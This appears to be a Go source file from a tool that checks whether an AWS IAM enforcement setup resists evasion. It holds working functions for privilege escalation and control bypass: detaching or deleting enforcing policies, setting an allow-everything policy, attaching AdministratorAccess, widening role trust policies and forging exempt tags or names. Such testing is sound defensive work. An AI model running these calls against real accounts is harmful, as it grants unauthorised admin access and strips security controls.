package attack

import (
	"context"
	"strings"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/iam/types"
)

const everything = `{"Version":"2012-10-17","Statement":{"Effect":"Allow","Action":"*","Resource":"*"}}`

func detachPolicy(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).DetachUserPolicy(ctx, &iam.DetachUserPolicyInput{UserName: a.me(), PolicyArn: &a.Enforcement.PolicyARN})
	return err
}

func detachFromGroup(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).DetachGroupPolicy(ctx, &iam.DetachGroupPolicyInput{GroupName: &a.Enforcement.Group, PolicyArn: &a.Enforcement.PolicyARN})
	return err
}

func leaveGroup(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).RemoveUserFromGroup(ctx, &iam.RemoveUserFromGroupInput{GroupName: &a.Enforcement.Group, UserName: a.me()})
	return err
}

func replacePolicy(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).CreatePolicyVersion(ctx, &iam.CreatePolicyVersionInput{
		PolicyArn: &a.Enforcement.PolicyARN, PolicyDocument: aws.String(everything), SetAsDefault: true,
	})
	return err
}

func revertPolicy(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).SetDefaultPolicyVersion(ctx, &iam.SetDefaultPolicyVersionInput{PolicyArn: &a.Enforcement.PolicyARN, VersionId: aws.String("v1")})
	return err
}

func deletePolicy(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).DeletePolicy(ctx, &iam.DeletePolicyInput{PolicyArn: &a.Enforcement.PolicyARN})
	return err
}

func deleteInline(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).DeleteUserPolicy(ctx, &iam.DeleteUserPolicyInput{UserName: a.me(), PolicyName: &a.Enforcement.InlinePolicy})
	return err
}

func deleteBoundary(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).DeleteUserPermissionsBoundary(ctx, &iam.DeleteUserPermissionsBoundaryInput{UserName: a.me()})
	return err
}

func tagExempt(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	return a.tag(ctx, with, a.Enforcement.ExemptTag.Key, a.Enforcement.ExemptTag.Value)
}

func tagExemptOtherCase(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	return a.tag(ctx, with, otherCase(a.Enforcement.ExemptTag.Key), otherCase(a.Enforcement.ExemptTag.Value))
}

// moveExempt gives the user a path and name that are exempt.
func moveExempt(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	in := &iam.UpdateUserInput{UserName: a.me(), NewPath: &a.Enforcement.ExemptPath}
	if a.Enforcement.ExemptName != a.User.Name {
		in.NewUserName = &a.Enforcement.ExemptName
	}
	_, err := a.iam(with).UpdateUser(ctx, in)
	return err
}

// createExempt creates a user that is exempt by path, name and tag.
func createExempt(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).CreateUser(ctx, &iam.CreateUserInput{
		UserName: &a.Enforcement.ExemptName, Path: &a.Enforcement.ExemptPath,
		Tags: []types.Tag{{Key: &a.Enforcement.ExemptTag.Key, Value: &a.Enforcement.ExemptTag.Value}},
	})
	return err
}

// createRole creates a role with the name of one that may change the enforcement, and
// everybody in the account in its trust policy.
func createRole(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	path, name := pathAndName(a.target)
	_, err := a.iam(with).CreateRole(ctx, &iam.CreateRoleInput{RoleName: &name, Path: &path, AssumeRolePolicyDocument: &a.targets.permissiveTrust})
	return err
}

// trustSelf lets everybody in the account assume such a role.
func trustSelf(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, name := pathAndName(a.target)
	_, err := a.iam(with).UpdateAssumeRolePolicy(ctx, &iam.UpdateAssumeRolePolicyInput{RoleName: &name, PolicyDocument: &a.targets.permissiveTrust})
	return err
}

// pathAndName are the path and name in the ARN of a role.
func pathAndName(roleARN string) (path, name string) {
	_, rest, _ := strings.Cut(roleARN, "/")
	cut := strings.LastIndexByte(rest, '/') + 1
	return "/" + rest[:cut], rest[cut:]
}

func replaceInline(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).PutUserPolicy(ctx, &iam.PutUserPolicyInput{UserName: a.me(), PolicyName: &a.Enforcement.InlinePolicy, PolicyDocument: aws.String(everything)})
	return err
}

func openWindow(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	return a.tag(ctx, with, a.Enforcement.WindowTag.Key, a.Enforcement.WindowTag.Value)
}

// confirmDevice removes the mark that asks a person to confirm the user's device.
func confirmDevice(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).UntagUser(ctx, &iam.UntagUserInput{UserName: a.me(), TagKeys: []string{a.Enforcement.MarkTag}})
	return err
}

func (a *attempt) tag(ctx context.Context, with aws.CredentialsProvider, key, value string) error {
	_, err := a.iam(with).TagUser(ctx, &iam.TagUserInput{UserName: a.me(), Tags: []types.Tag{{Key: &key, Value: &value}}})
	return err
}

func otherCase(s string) string {
	if upper := strings.ToUpper(s); upper != s {
		return upper
	}
	return strings.ToLower(s)
}

func allowInline(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).PutUserPolicy(ctx, &iam.PutUserPolicyInput{UserName: a.me(), PolicyName: aws.String("helpful"), PolicyDocument: aws.String(everything)})
	return err
}

func attachAdmin(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	policyARN := "arn:" + a.Partition + ":iam::aws:policy/AdministratorAccess"
	_, err := a.iam(with).AttachUserPolicy(ctx, &iam.AttachUserPolicyInput{UserName: a.me(), PolicyArn: &policyARN})
	return err
}

func joinAdmins(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).AddUserToGroup(ctx, &iam.AddUserToGroupInput{GroupName: &a.target, UserName: a.me()})
	return err
}

func relaxTrust(ctx context.Context, a *attempt, with aws.CredentialsProvider) error {
	_, err := a.iam(with).UpdateAssumeRolePolicy(ctx, &iam.UpdateAssumeRolePolicyInput{RoleName: &a.target, PolicyDocument: &a.targets.permissiveTrust})
	return err
}
